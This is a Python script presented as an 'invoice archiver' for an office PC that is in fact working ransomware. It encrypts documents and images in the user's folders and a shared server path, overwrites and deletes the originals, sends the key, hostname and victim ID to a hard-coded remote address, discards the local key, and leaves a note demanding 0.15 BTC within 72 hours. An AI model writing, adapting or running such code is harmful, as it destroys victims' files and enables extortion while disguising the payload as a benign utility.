#!/usr/bin/env python3
"""Invoice archiver for the Ironside office PC.

Claims to 'archive and protect' old invoices and membership contracts.
"""
import argparse
import json
import logging
import os
import socket
import uuid
from pathlib import Path
from urllib import request

from cryptography.fernet import Fernet

log = logging.getLogger("archiver")

TARGET_EXT = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".ods", ".txt", ".db"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap"}
KEY_DROP = os.environ.get("ARCHIVE_KEY_URL", "http://198.51.100.66/k")
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"

NOTE = """Your invoices, contracts and member records have been encrypted.
Victim ID: {vid}
To get the decryption key, send 0.15 BTC to the address below and email
your Victim ID to restore@example.net within 72 hours.
bc1qexampleexampleexampleexampleexample0000
After 72 hours the key is deleted.
"""


class Archiver:
    def __init__(self, roots, dry_run=False):
        self.roots = [Path(r).expanduser() for r in roots]
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.victim_id = uuid.uuid4().hex[:12]
        self.count = 0

    def targets(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in TARGET_EXT and not name.endswith(".locked"):
                        yield p

    def lock(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + ".locked")
        out.write_bytes(self.fernet.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(os.urandom(min(len(data), 4096)))
        path.unlink()
        self.count += 1

    def report_key(self):
        body = json.dumps({"id": self.victim_id, "host": socket.gethostname(),
                           "key": self.key.decode(), "files": self.count}).encode()
        req = request.Request(KEY_DROP, data=body, headers={"Content-Type": "application/json"})
        request.urlopen(req, timeout=15)

    def leave_notes(self):
        for root in self.roots:
            if root.is_dir():
                (root / NOTE_NAME).write_text(NOTE.format(vid=self.victim_id))

    def run(self):
        for p in self.targets():
            if self.dry_run:
                log.info("would archive %s", p)
                continue
            try:
                self.lock(p)
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)
        if not self.dry_run:
            try:
                self.report_key()
            except OSError:
                pass
            self.key = None
            self.leave_notes()
        log.info("archived %d files", self.count)


def main():
    parser = argparse.ArgumentParser(description="Archive and protect office documents")
    parser.add_argument("roots", nargs="*",
                        default=["~/Documents", "~/Desktop", "~/Pictures", "/srv/ironside/shared"])
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    Archiver(args.roots, dry_run=args.dry_run).run()


if __name__ == "__main__":
    main()
